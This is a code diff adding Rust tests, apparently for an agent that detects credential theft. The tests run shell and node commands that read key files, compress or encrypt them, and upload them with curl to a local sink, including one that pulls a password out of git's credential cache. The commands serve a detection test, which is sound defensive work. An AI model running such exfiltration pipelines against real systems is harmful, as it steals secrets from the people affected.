@@ -166,6 +166,194 @@ pub fn handed_on_in_a_file() {
     }
 }
 
+/// Somebody else keeps all processors busy as long as this lives.
+fn load() -> Vec<crate::command::Background> {
+    (0..4).map(|_| sh("while :; do :; done").spawn()).collect()
+}
+
+/// Packed or encrypted at the end of a pipeline and sent by the very next command: each time, with the whole way; beside others
+/// who need all processors as well. From a file that is watched, and from one that nobody has named.
+pub fn written_at_the_end_of_a_pipeline() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let scripts = [
+        (
+            "tar c -C \"${1%/*}\" \"${1##*/}\" | $ENC > $3/x; curl -s -T $3/x \"$2\"; :",
+            &["tar", "openssl", "curl"][..],
+        ),
+        (
+            "cat \"$1\" | gzip -c > $3/x && curl -s --data-binary @$3/x \"$2\"; :",
+            &["cat", "gzip", "curl"],
+        ),
+        (
+            "$ENC < \"$1\" > $3/x && curl -s -T $3/x \"$2\"; :",
+            &["openssl", "curl"],
+        ),
+        (
+            "cat \"$1\" | gzip -c | $ENC | tee $3/x >/dev/null; curl -s -T $3/x \"$2\"; :",
+            &["cat", "gzip", "openssl", "tee", "curl"],
+        ),
+    ];
+    let mut missed = Vec::new();
+    for (round, place) in (0..10).zip(["home", "elsewhere"].into_iter().cycle()) {
+        let _load = (round >= 4).then(load);
+        for (n, (script, programs)) in scripts.iter().enumerate() {
+            let (_, file) = key(&scratch, &format!("{place}/key{round}-{n}.json"));
+            let dir = scratch.make(&format!("end{round}-{n}"));
+            let done = sh(script)
+                .arg(&file)
+                .arg(format!("http://127.0.0.1:{}/in", sink.port))
+                .arg(&dir)
+                .env("ENC", "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x")
+                .run()
+                .ok();
+            agent.settle();
+            let sent = sent(&agent, done.pid);
+            let way = sent.first().map(way).unwrap_or_default();
+            let names: Vec<&str> = way.iter().map(|(_, program)| program.as_str()).collect();
+            if sent.len() != 1 || names != *programs || way.last().unwrap().0 != "file" {
+                missed.push(format!(
+                    "round {round} {place}: {script}\n{way:?}\n{}\n{}",
+                    list(&sent),
+                    list(&agent.tree(done.pid))
+                ));
+                continue;
+            }
+            let text = sent[0].brief();
+            // What gzip packs is unpacked by who looks for it.
+            let seen = programs.contains(&"gzip") && !programs.contains(&"openssl");
+            let grade = if seen { "observed" } else { "lineage" };
+            assert_eq!(sent[0].grade(), grade, "{text}");
+            goes_to(&sent[0], &["127.0.0.1"], sink.port);
+        }
+    }
+    assert!(
+        missed.is_empty(),
+        "{} missed\n{}",
+        missed.len(),
+        missed.join("\n\n")
+    );
+}
+
+/// What node gives to the standard input of a child goes by a pair of sockets: seen where it leaves as it is, and at the end of
+/// a way where it does not.
+pub fn given_to_a_child() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let (_, file) = key(&scratch, "home/fed.json");
+    // Begun before the key is read, so that nothing comes by the fork.
+    let script = "const { spawn } = require('child_process');
+const curl = spawn('curl', ['-s', '-d', '@-', process.argv[2]], { stdio: ['pipe', 'ignore', 'ignore'] });
+setTimeout(() => curl.stdin.end(require('fs').readFileSync(process.argv[1])), 700);";
+    let fed = act("node")
+        .args(["-e", script])
+        .arg(&file)
+        .arg(format!("http://127.0.0.1:{}/in", sink.port))
+        .limit(30)
+        .run()
+        .ok();
+    agent.settle();
+    let seen = sent(&agent, fed.pid);
+    let text = list(&agent.tree(fed.pid));
+    let curl: Vec<&Event> = seen
+        .iter()
+        .filter(|e| e.executable().ends_with("/curl"))
+        .collect();
+    assert_eq!(curl.len(), 1, "{text}");
+    assert_eq!(curl[0].grade(), "observed", "{text}");
+    assert_eq!(
+        way(curl[0]),
+        [step("read", "node"), step("socket", "curl")],
+        "{text}"
+    );
+
+    // Sent by somebody who has nothing from node.
+    let (_, file) = key(&scratch, "home/packed.json");
+    let script = "const { spawn } = require('child_process');
+const enc = ['enc', '-aes-256-cbc', '-pbkdf2', '-pass', 'pass:x', '-out', process.argv[2]];
+const openssl = spawn('openssl', enc, { stdio: ['pipe', 'ignore', 'ignore'] });
+setTimeout(() => openssl.stdin.end(require('fs').readFileSync(process.argv[1])), 700);";
+    let done = sh("node -e \"$4\" \"$1\" \"$3\"; curl -s -T \"$3\" \"$2\"; :")
+        .arg(&file)
+        .arg(format!("http://127.0.0.1:{}/in", sink.port))
+        .arg(scratch.join("packed"))
+        .arg(script)
+        .limit(30)
+        .run()
+        .ok();
+    let event = agent.expect("what was packed", done.pid, |e| {
+        e.is("credential_sent") && e.in_tree(done.pid) && e.executable().ends_with("/curl")
+    });
+    assert_eq!(event.grade(), "lineage", "{}", event.brief());
+    let expected = [
+        step("read", "node"),
+        step("socket", "openssl"),
+        step("file", "curl"),
+    ];
+    assert_eq!(way(&event), expected, "{}", event.brief());
+}
+
+/// git's daemon that keeps credentials for a while: told by one program over a socket with a name, and asked by another.
+pub fn kept_by_a_daemon() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let (_, file) = key(&scratch, "home/key.json");
+    let socket = scratch.make("cache").join("socket");
+    fs::set_permissions(
+        socket.parent().unwrap(),
+        std::os::unix::fs::PermissionsExt::from_mode(0o700),
+    )
+    .unwrap();
+    let git = format!(
+        "git -c credential.helper='cache --timeout=60 --socket={}'",
+        socket.display()
+    );
+    let keep = format!(
+        "(printf 'protocol=https\\nhost=git.test\\nusername=ada\\npassword='; sed 's/.*:\"//; s/\".*//' \"$1\") | \
+         {git} credential approve; :"
+    );
+    let kept = sh(&keep).arg(&file).run().ok();
+    // The sender is gone by now, and nothing but the daemon has it.
+    agent.settle();
+    let ask = format!(
+        "printf 'protocol=https\\nhost=git.test\\n\\n' | {git} credential fill | curl -s -d @- \"$1\"; :"
+    );
+    let asked = sh(&ask)
+        .arg(format!("http://127.0.0.1:{}/in", sink.port))
+        .run()
+        .ok();
+    agent.settle();
+    let end = sh(&format!(
+        "{git} credential-cache --socket={} exit; :",
+        socket.display()
+    ))
+    .run();
+    let sent = sent(&agent, asked.pid);
+    let text = format!(
+        "{}\n--\n{}\n{}",
+        list(&agent.tree(kept.pid)),
+        list(&agent.tree(asked.pid)),
+        end.stderr_text()
+    );
+    let curl: Vec<&Event> = sent
+        .iter()
+        .filter(|e| e.executable().ends_with("/curl"))
+        .collect();
+    assert_eq!(curl.len(), 1, "{text}");
+    assert_eq!(curl[0].grade(), "observed", "{text}");
+    let way = way(curl[0]);
+    let sockets = way.iter().filter(|(how, _)| how == "socket").count();
+    assert_eq!((way[0].0.as_str(), sockets), ("read", 2), "{way:?}\n{text}");
+    assert_eq!(curl[0].path(), file.to_str().unwrap(), "{text}");
+    goes_to(curl[0], &["127.0.0.1"], sink.port);
+}
+
 /// What a child process of node says to it, over a pair of sockets, and node sends.
 pub fn said_to_a_parent() {
     let _turn = turn();
